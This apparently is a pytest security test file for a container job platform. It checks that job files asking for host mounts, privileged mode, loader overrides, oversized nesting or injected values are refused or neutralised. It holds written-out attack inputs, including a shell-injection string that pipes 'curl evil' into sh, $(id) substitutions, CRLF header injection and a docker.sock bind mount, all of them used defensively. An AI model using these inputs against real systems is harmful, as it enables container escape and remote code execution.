"""Attacks by what stands in a job file, through the API. Their numbers are those of
docs/threat-model.md; what the agent refuses by itself is tested in tests/docker."""

from __future__ import annotations

import json
from typing import Any

import pytest
from tests.support.api_permissions import EXPECTED
from tests.support.jobs_world import attempts_of, job_file, placed, report, submit, tick
from tests.support.platform_api import Api
from tests.support.platform_factories import make_node

from skep_agent.isolation.create import check_spec
from skep_platform.jobs import services
from skep_platform.jobs.containers import desired
from skep_platform.jobs.containers.desired import desired_attempts
from skep_platform.jobs.models import Job

pytestmark = pytest.mark.django_db

MARK = "what-an-attacker-wrote"
# What an engine would take, under the names of Docker, Compose, Kubernetes and OpenPAI.
WISHES: dict[str, Any] = {
    "privileged": True,
    "cap_add": ["SYS_ADMIN", MARK],
    "capAdd": [MARK],
    "devices": [MARK],
    "security_opt": ["seccomp=unconfined", MARK],
    "securityContext": {"x": MARK},
    "pid": "host",
    "ipc": "host",
    "userns_mode": "host",
    "network_mode": "host",
    "cgroup_parent": MARK,
    "sysctls": {"kernel.shmmax": MARK},
    "runtime": MARK,
    "volumes": [f"/:/{MARK}"],
    "binds": [f"/:/{MARK}"],
    "volumes_from": [MARK],
    "mounts": [{"type": "bind", "source": "/var/run/docker.sock", "target": f"/{MARK}"}],
    "driver_opts": {"type": "none", "o": "bind", "device": f"/{MARK}"},
    "hostPath": MARK,
    "device_requests": [MARK],
    "deviceCgroupRules": [MARK],
    "tmpfs": [f"/{MARK}"],
    "dockerArgs": f"--privileged -v /:/{MARK}",
    "ports": [f"0.0.0.0:22:22/{MARK}"],
    "user": MARK,
    "entrypoint": MARK,
    "ulimits": {MARK: 1},
    "hostname": MARK,
}
PLACES = ["job", "role", "resources", "options", "image", "extras", "skep", "hived"]


@pytest.fixture(autouse=True)
def _nothing_remembered(monkeypatch):
    monkeypatch.setattr(desired, "_known", desired._Known())


def _with_wishes(file: dict[str, Any], place: str) -> dict[str, Any]:
    role = file["taskRoles"]["worker"]
    of_place: dict[str, dict[str, Any]] = {
        "job": file,
        "role": role,
        "resources": role["resourcePerInstance"],
        "options": role.setdefault("extraContainerOptions", {}),
        "image": file["prerequisites"][0],
        "extras": file["extras"],
        "skep": file["extras"]["skep"],
        "hived": file["extras"]["hivedScheduler"],
    }
    of_place[place].update(WISHES)
    return file


@pytest.mark.parametrize("place", PLACES)
def test_01_02_03_no_job_file_asks_for_privileges_mounts_or_devices(alice, vc, node, place):
    """Each such field is refused by name; where the protocol lets unknown fields stand, they reach
    no node."""
    file = json.dumps(_with_wishes(job_file(vc), place))
    answer = Api(alice).client.post("/api/v1/jobs", file, content_type="application/json")
    if answer.status_code == 400:
        named = {error["path"].rpartition(".")[2] for error in answer.json()["details"]["errors"]}
        assert len(named & WISHES.keys()) > 20, named
        return
    assert place in ("options", "extras", "hived"), answer.content
    assert tick() == {answer.json()["id"]}
    (spec,) = desired_attempts(node.pk)
    assert MARK not in spec.model_dump_json()
    assert (spec.network, spec.rdma) == ("isolated", False)
    check_spec(spec)


@pytest.mark.parametrize(
    "name",
    [
        *("NVIDIA_VISIBLE_DEVICES", "NVIDIA_DRIVER_CAPABILITIES", "NVIDIA_MIG_CONFIG_DEVICES"),
        *("NVIDIA_IMEX_CHANNELS", "NVIDIA_MOFED", "NVIDIA_GDS", "NVIDIA_GDRCOPY"),
        *("NVIDIA_NVSWITCH", "DOCKER_RESOURCE_GPU", "LD_PRELOAD", "LD_LIBRARY_PATH", "SKEP_X"),
    ],
)
def test_05_07_08_no_job_file_sets_what_steers_loader_or_nvidia_hook(alice, vc, name):
    file = json.dumps(job_file(vc, skep={"environment": {name: "all"}}))
    answer = Api(alice).client.post("/api/v1/jobs", file, content_type="application/json")
    assert answer.status_code == 400, answer.content
    assert name in json.dumps(answer.json()["details"]["errors"])
    assert not Job.objects.exists()


SECRET = "t0ken+of/alice="
FORMS = [SECRET, "dDBrZW4rb2YvYWxpY2U9", "t0ken%2Bof%2Falice%3D"]  # plain, Base64, in an address
OF_A_JOB = sorted(
    route.removeprefix("GET ")
    for route in EXPECTED
    if route.startswith(("GET jobs", "GET attempts", "GET audit", "GET notifications"))
    if "<id>" not in route.removeprefix("GET jobs/<id>").removeprefix("GET attempts/<id>")
)
VALUES = {"<rank>": "0", "<index>": "1", "<stream>": "stdout"}


def test_27_no_route_shows_a_secret_of_a_job(alice, vc, node, admin):
    """The job failed with an error of its node that repeats the command; it was cloned, too."""
    command = "fetch --password <% $secrets.token %>"
    file = job_file(vc, name="first", commands=[command]) | {"secrets": {"token": SECRET}}
    job = services.submit(alice, json.dumps(file))
    tick()
    (attempt,) = attempts_of(job)
    report(attempt, "pulling")
    (spec,) = desired_attempts(node.pk)
    assert SECRET in spec.command
    assert set(FORMS) <= set(spec.masks) or SECRET in spec.masks
    report(attempt, "failed", error_code="create_failed", error_message="exec: fetch: not found")
    api = Api(alice)
    assert api.post(f"/jobs/{job.pk}/clone", {"name": "second"}).status_code == 201
    asked = 0
    for route in OF_A_JOB:
        for found in Job.objects.all():
            own = str(attempt.pk if route.startswith("attempts") else found.pk)
            address = "/" + route.replace("<id>", own)
            for part, value in VALUES.items():
                address = address.replace(part, value)
            for caller in (api, admin):
                answer = caller.get(address, q="x", tag="x")
                text = answer.content.decode() if not answer.streaming else ""
                assert not [form for form in FORMS if form in text], address
                asked += answer.status_code == 200
    assert asked > 40


@pytest.mark.parametrize("instances", [100_000, 10**9])
def test_31_a_gang_of_100_000_tasks_is_refused_before_a_row_is_written(alice, vc, instances):
    file = json.dumps(job_file(vc, instances=instances, gpus=0))
    answer = Api(alice).client.post("/api/v1/jobs", file, content_type="application/json")
    assert 400 <= answer.status_code < 500, answer.content
    assert not Job.objects.exists()


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000,
        '{"a":' * 50_000 + "1" + "}" * 50_000,
        "a: " + "{b: " * 20_000,
        "&a [*a]",
        "a: &a {b: *a}",
        "name: " + "a-" * 100_000 + "!",
    ],
    ids=["brackets", "JSON", "YAML", "an anchor in itself", "a map in itself", "a name"],
)
def test_31_nesting_without_end_and_long_names_are_refused(alice, vc, text):
    for kind in ("application/yaml", "application/json"):
        answer = Api(alice).client.post("/api/v1/jobs", text, content_type=kind)
        assert answer.status_code in (400, 413), answer.content
        assert answer.json()["code"] in ("invalid_job", "syntax", "input_too_costly"), kind


HOSTILE = "'; curl evil | sh; echo '\"$(id)`id`\r\nSet-Cookie: a=b\x1b]52;c;eA==\x07"


def test_32_values_of_variables_are_data_and_never_a_piece_of_a_script(alice, vc, node):
    """What starts a container has them beside the command, and not pasted into a shell line."""
    job = placed(alice, vc, skep={"environment": {"NAME": HOSTILE.replace("\x1b", "")}})
    (spec,) = desired_attempts(node.pk)
    assert spec.env["NAME"] == HOSTILE.replace("\x1b", "")
    assert "curl evil" not in spec.command
    answer = Api(alice).get(f"/jobs/{job.pk}")
    assert "Set-Cookie" not in answer.headers


@pytest.mark.parametrize("name", ["a\r\nb", "a\nb", "a b", "<b>", "{{a}}", "$(id)", "a;b", "a/b"])
def test_32_names_and_tags_hold_no_character_that_means_something_elsewhere(alice, vc, name):
    answer = Api(alice).post("/jobs", job_file(vc, name="x") | {"name": name})
    assert answer.status_code == 400, answer.content
    job = submit(alice, vc)
    answer = Api(alice).put(f"/jobs/{job.pk}/tags", {"tags": [name]})
    if "\n" in name or "\r" in name:
        assert answer.status_code == 400, answer.content


def test_32_labels_of_containers_are_those_of_the_platform(alice, vc):
    """No text of a tenant is the name of a label, and lines cannot be added to its value."""
    node = make_node("gpu-9", gpus=1)
    placed(alice, vc)
    (spec,) = desired_attempts(node.pk)
    assert "\n" not in f"{spec.job_name}{spec.task_role}{spec.hostname}"
